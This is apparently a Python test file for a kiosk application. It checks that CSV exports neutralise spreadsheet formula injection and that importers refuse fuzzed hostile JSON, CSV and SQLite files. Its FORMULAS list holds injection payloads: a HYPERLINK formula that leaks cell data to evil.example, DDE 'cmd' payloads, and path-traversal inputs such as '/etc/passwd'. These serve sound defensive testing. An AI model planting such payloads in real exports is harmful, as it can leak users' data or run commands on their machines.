"""Exports that open in a spreadsheet: no cell of ours runs as a formula, and what the exporter
protected the importer reads back exactly. The importers take hostile files (fuzzed) and give
only their documented refusals."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import datetime

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cxkiosk.cells import TRIGGERS, protect, unprotect
from cxkiosk.content.database import Content
from cxkiosk.content.records import log_play
from cxkiosk.content.transfer import ContentFileError, export_file, import_file
from cxkiosk.links import HTTPS_ONLY
from cxkiosk.report import build_report, render_csv

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=already quoted", "''double", "=", "-", "=1+1\r\n=2+2"]
# What the importer keeps of a text: surrounding white space is not (as in the admin panel), and
# only a description may hold line breaks.
STORED = [f for f in FORMULAS if f == f.strip() and not set(f) & set("\r\n\t")]


def spreadsheet_would_run(cell: str) -> bool:
    """What Excel and LibreOffice take for a formula: a cell starting with a trigger character."""
    return cell.startswith(TRIGGERS)


@pytest.mark.parametrize("text", FORMULAS + ["plain", "", "'", "don't", "a=b", "3-4"])
def test_protect_then_unprotect_gives_the_text_back_and_never_runs(text):
    cell = protect(text)
    assert not spreadsheet_would_run(cell)
    assert unprotect(cell) == text


@settings(max_examples=2000, deadline=None)
@given(st.text(max_size=30))
def test_fuzzed_cells_round_trip_exactly_and_never_run(text):
    assert not spreadsheet_would_run(protect(text))
    assert unprotect(protect(text)) == text


def test_content_export_is_safe_to_open_and_imports_back_exactly(db, tmp_path):
    for n, formula in enumerate(STORED):
        Content.create(title=formula, description=formula, tagline=formula, keywords="",
                       url=f"https://example.com/{n}", kind="web")
    Content.create(title="multi-line", description="=1+1\r\n=2+2", url="https://example.com/m", kind="web")
    STORED_ALL = [*STORED, "multi-line"]
    path = tmp_path / "content.csv"
    assert export_file(path) == len(STORED_ALL)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert not [cell for row in rows for cell in row if spreadsheet_would_run(cell)]
    Content.delete().execute()
    result = import_file(path)
    assert (result.added, result.errors) == (len(STORED_ALL), [])
    assert sorted(c.title for c in Content.select()) == sorted(STORED_ALL)
    assert {c.description for c in Content.select()} == {*STORED, "=1+1\r\n=2+2"}
    again = tmp_path / "again.csv"
    export_file(again)
    assert again.read_bytes() == path.read_bytes()


def test_report_csv_is_safe_to_open(db):
    item = Content.create(title='=HYPERLINK("https://evil.example","x")', url="https://example.com/h",
                          kind="web")
    log_play(item.id, None, datetime(2026, 1, 5, 10), datetime(2026, 1, 5, 10, 1), "completed", "idle")
    text = render_csv(build_report())
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert '\'=HYPERLINK("https://evil.example","x")' in cells
    assert not [cell for cell in cells if spreadsheet_would_run(cell)]


# --- the importers, fuzzed: a refusal or an import, never anything else ----------------------------


_CELL = st.one_of(st.none(), st.text(max_size=12), st.integers(-10**6, 10**6), st.floats(allow_nan=True),
                  st.booleans(), st.sampled_from(["https://example.com/a", "https://youtu.be/AAAAAAAAAAA",
                                                  "clip.mp4", "../x.png", "/etc/passwd", "mon-fri", "male",
                                                  "=1+1", "2025-13-40", "25:00", "1e999"]))
_ROW = st.dictionaries(st.sampled_from(["title", "url", "kind", "path", "description", "duration",
                                        "genders", "age_min", "age_max", "keywords", "weight", "days",
                                        "hour_from", "hour_to", "date_from", "date_to", "idle", "enabled",
                                        "group_min", "group_max", "tagline", "bogus"]), _CELL, max_size=8)
_FUZZ = settings(max_examples=1000, deadline=None,
                 suppress_health_check=[HealthCheck.function_scoped_fixture])


def _import_quietly(path) -> None:
    try:
        result = import_file(path)
    except ContentFileError:
        return
    assert result.added + result.updated + result.skipped + len(result.errors) >= 0
    for row in Content.select():  # whatever was accepted meets the rules
        # an https link, or a path on the showroom's page ("/offers"), kept in its canonical form
        assert row.url == "" or HTTPS_ONLY.stored(row.url) == row.url, row.url
        assert not row.url.startswith("http://")
        assert not row.path.startswith(("/", "\\")) and ".." not in row.path.split("/")


@_FUZZ
@given(st.one_of(st.lists(_ROW, max_size=6), _ROW, st.text(max_size=40), st.integers()))
def test_fuzzed_json_imports_or_is_refused(db, tmp_path, data):
    path = tmp_path / "fuzz.json"
    path.write_text(json.dumps(data, allow_nan=True), encoding="utf-8")
    _import_quietly(path)


@_FUZZ
@given(st.lists(st.lists(st.text(max_size=10), max_size=6), max_size=6), st.booleans())
@example([["Spring", "/ᦗ5z9!¥Â@", "web"]], True)  # a showroom path, as CI's fuzzing once found
@example([["Spring", "http://example.com/a", "web"], ["Autumn", "//evil.example/x", "web"]], True)
def test_fuzzed_csv_imports_or_is_refused(db, tmp_path, rows, header):
    buf = io.StringIO()
    writer = csv.writer(buf)
    if header:
        writer.writerow(["title", "url", "kind", "path", "age_min", "days"])
    writer.writerows(rows)
    path = tmp_path / "fuzz.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    _import_quietly(path)


@_FUZZ
@given(st.lists(st.tuples(st.one_of(st.none(), st.text(max_size=20), st.integers(-2**63, 2**63 - 1)),
                          st.one_of(st.none(), st.text(max_size=30), st.binary(max_size=8))), max_size=5))
def test_fuzzed_seed_databases_import_or_are_refused(db, tmp_path, rows):
    path = tmp_path / "seed.db"
    path.unlink(missing_ok=True)
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE youtube_urls (description, url)")
    con.executemany("INSERT INTO youtube_urls VALUES (?, ?)", rows)
    con.commit()
    con.close()
    _import_quietly(path)


@pytest.mark.parametrize("content", [b"\xff\xfe\x00garbage", b"SQLite format 3\x00" + b"\x00" * 200,
                                     b"{" * 100000, b"[" * 5000 + b"]" * 5000, b""])
@pytest.mark.parametrize("suffix", [".json", ".csv", ".db"])
def test_hostile_files_are_refused_in_one_line(db, tmp_path, content, suffix):
    path = tmp_path / f"hostile{suffix}"
    path.write_bytes(content)
    try:
        result = import_file(path)
    except ContentFileError as exc:
        assert "\n" not in str(exc)
        return
    assert result.added == 0
